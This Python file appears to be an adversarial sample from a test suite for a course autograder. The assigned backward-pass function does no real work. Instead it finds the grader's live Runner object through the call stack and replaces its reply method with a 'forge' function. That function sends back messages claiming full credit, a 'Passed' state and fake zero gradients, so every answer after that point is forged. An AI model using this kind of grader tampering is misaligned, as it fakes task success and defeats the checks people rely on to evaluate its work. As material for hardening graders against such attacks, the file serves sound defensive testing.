# Goes for the socket: the attack writes the answer to the next question itself, before the runner can.
# Gains: whatever a frame can say: here a verdict, and values for every name.
# quick: yes
# ruff: noqa
import inspect
import os
import socket
from coursekit.checks import wire
from coursekit.grading.inside.runner import Runner


def forge(self, frame):
    message, tensors = wire.unpack(frame)
    if message.get("op") == "probe":
        message = {**message, "credit": 1, "observed": {"values": {"grad_w1": {"$tensor": "0"}, "grad_w2": {"$tensor": "0"}}, "state": "Passed"}}
        tensors = {"0": __import__("torch").zeros(1)} if "two" not in str(message["observed"]) else tensors
    self.connection.sendall(wire.pack(message, tensors))


for frame in inspect.stack():
    if "self" in frame.frame.f_locals and isinstance(frame.frame.f_locals["self"], Runner):
        attacked = frame.frame.f_locals["self"]


def two_layer_backward(x, y, w1, w2):
    type(attacked).reply = forge                   # from here on, every answer is forged
    return None, None
